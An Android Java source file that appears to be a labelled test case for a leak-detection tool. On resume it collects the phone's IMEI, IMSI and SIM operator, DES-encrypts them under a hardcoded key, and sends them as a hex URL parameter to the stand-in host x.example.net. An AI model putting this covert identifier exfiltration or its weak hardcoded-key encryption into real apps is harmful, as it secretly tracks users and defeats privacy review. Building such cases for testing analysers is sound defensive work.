package olden;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.*;

import java.net.*;
import java.security.*;

import javax.crypto.*;
import javax.crypto.spec.*;

/** Joined identifiers under DES, in hexadecimal, in an address. */
public class Sealed extends Activity {
    static final String K = "kS8xQ2p1";
    static final char[] HEX = "0123456789abcdef".toCharArray();

    static String hex(byte[] b) {
        char[] r = new char[b.length << 1];
        for (int i = 0, j = 0; i < b.length; i++) {
            r[j++] = HEX[(b[i] >>> 4) & 15];
            r[j++] = HEX[b[i] & 15];
        }
        return new String(r);
    }

    static byte[] des(String t) throws Exception {
        Key k = SecretKeyFactory.getInstance("DES").generateSecret(new DESKeySpec(K.getBytes()));
        Cipher c = Cipher.getInstance("DES/CBC/PKCS5Padding");
        c.init(1, k, new IvParameterSpec(K.getBytes()));
        return c.doFinal(t.getBytes("GBK"));
    }

    protected void onResume() {
        super.onResume();
        new AsyncTask<Void, Void, Void>() {
            protected Void doInBackground(Void... v) {
                try {
                    TelephonyManager t = (TelephonyManager) getSystemService("phone");
                    String all =
                            t.getDeviceId() + "," + t.getSubscriberId() + "," + t.getSimOperator();
                    HttpURLConnection c =
                            (HttpURLConnection)
                                    new URL("http://x.example.net/s?d=" + hex(des(all)))
                                            .openConnection(); // leak encrypt
                    c.getInputStream();
                    HttpURLConnection d =
                            (HttpURLConnection)
                                    new URL("http://x.example.net/s?d=" + hex(des("start")))
                                            .openConnection();
                    d.getInputStream(); // no leak
                } catch (Exception e) {
                }
                return null;
            }
        }.execute();
    }
}
